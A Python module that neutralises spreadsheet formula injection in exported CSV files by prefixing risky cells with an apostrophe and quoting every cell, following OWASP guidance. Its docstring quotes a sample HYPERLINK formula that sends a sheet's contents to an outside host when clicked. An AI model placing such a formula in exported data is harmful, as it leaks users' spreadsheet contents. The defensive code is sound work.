"""CSV files a person may open in a spreadsheet: no cell can run as a formula.

Excel, LibreOffice Calc and Google Sheets run a cell as a formula when it starts with `=`,
`+`, `-` or `@` (and some with a tab or a carriage return), even in a CSV file. A text like
`=HYPERLINK("https://example.com/?"&A1)` in a service's description would then send the
spreadsheet's contents away when clicked. OWASP's rule for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), followed here:

- a text cell starting with one of those six characters gets an apostrophe in front, which a
  spreadsheet reads as "this is text";
- every cell is wrapped in double quotes, and a double quote inside is doubled, so a comma or
  semicolon in a text can never start a new cell that begins with one of them.

Numbers we write ourselves (a longitude of -3.5, a result of 86) stay numbers: a number is
not a formula, and an apostrophe would make it text. A phone number such as +44 1632 960000
is text, so it gets the apostrophe.

`restore` undoes `neutralise` exactly, so a spreadsheet written and read back gives the same
texts. A text that already starts with an apostrophe followed by one of the six characters
(or by another apostrophe) gets one more apostrophe, so that reading it back is never in doubt.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A cell's value as written: a text that a spreadsheet would run gets an apostrophe first."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_START) or (value[0] == "'" and value[1:2] in (*FORMULA_START, "'")):
        return "'" + value
    return value


def restore(cell: str) -> str:
    """The text a neutralised cell stands for (a cell written by hand is returned as it is)."""
    if cell[:1] == "'" and cell[1:2] in (*FORMULA_START, "'"):
        return cell[1:]
    return cell


def writer(buffer: io.StringIO) -> Any:
    """A csv writer that quotes every cell (OWASP's rule) and ends lines with CRLF (RFC 4180)."""
    return csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")


def write_rows(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """The CSV text: the header, then each row with every text neutralised."""
    buffer = io.StringIO(newline="")
    out = writer(buffer)
    out.writerow(list(header))
    for row in rows:
        out.writerow([_cell(value) for value in row])
    return buffer.getvalue()


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return format(value.normalize(), "f")  # 1200, never 1.2E+3: a number we made is not a formula
    if isinstance(value, (int, float)):
        return value
    return neutralise(str(value))


__all__ = ["FORMULA_START", "neutralise", "restore", "write_rows"]
